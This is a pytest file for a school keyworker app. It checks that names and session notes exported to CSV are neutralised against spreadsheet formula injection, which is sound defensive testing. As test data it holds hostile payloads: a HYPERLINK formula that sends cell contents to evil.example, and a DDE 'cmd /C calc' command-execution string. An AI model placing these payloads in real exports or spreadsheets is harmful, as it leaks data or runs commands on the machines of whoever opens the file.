"""Issue 13 (1): no CSV Keyworker writes can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from storage.csv_cells import neutralise
from storage.db import make_engine, session_scope
from storage.models import Pupil, SessionLog, Staff

HYPERLINK = '=HYPERLINK("http://evil.example/"&A1)'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "typed", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK, CALC]
)
def test_a_cell_that_starts_like_a_formula_is_made_text(typed):
    assert neutralise(typed) == "'" + typed


@pytest.mark.parametrize("kept", ["Freya", "20 mins, good focus", "", "a=b", "O'Neil", 5, None])
def test_ordinary_cells_and_non_text_values_are_left_alone(kept):
    assert neutralise(kept) == kept


@pytest.fixture
def hostile_cli(cli, samples_dir, tmp_path):
    """The sample school, with a pupil whose name and a note are spreadsheet formulas."""
    pupils = (
        (samples_dir / "pupils.csv").read_text().replace(",Freya,Jones,,", ",Freya,Jones,=cmd,")
    )
    (tmp_path / "pupils.csv").write_text(
        pupils.replace("Jones", '"' + HYPERLINK.replace('"', '""') + '"', 1)
    )
    cli("import", "staff", str(samples_dir / "staff.csv"))
    cli("import", "pupils", str(tmp_path / "pupils.csv"))
    cli("import", "provisions", str(samples_dir / "provisions.csv"))
    cli("console", "--as", "amy.lowe@brookfield.example", input="Freya phonics 20 mins\n")
    engine = make_engine(cli.url)
    with session_scope(engine) as session:
        log = session.exec(select(SessionLog)).one()
        log.notes = CALC
        session.add(log)
        freya = session.exec(select(Pupil).where(Pupil.first_name == "Freya")).one()
        assert freya.last_name == HYPERLINK  # stored as typed: only the CSV is neutralised
        assert session.exec(select(Staff)).first() is not None
    engine.dispose()
    return cli


def test_keyworker_export_csv_neutralises_names_and_notes(hostile_cli):
    out = hostile_cli("export", "--format", "csv").stdout
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["pupil"] == "Freya " + HYPERLINK  # starts with a letter: harmless as it is
    assert row["notes"] == "'" + CALC
    jsonl = hostile_cli("export").stdout
    assert CALC in jsonl and "'" + CALC not in jsonl  # JSON is not a spreadsheet


def test_keyworker_report_csv_neutralises_every_text_cell(hostile_cli):
    out = hostile_cli("report", "csv", "--kind", "session", "--output", "-").stdout
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["pupil_last_name"] == "'" + HYPERLINK
    assert row["pupil_preferred_name"] == "'=cmd"
    assert row["notes"] == "'" + CALC
    assert row["duration_minutes"] == "20" and row["occurred_at"][:2] == "20"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
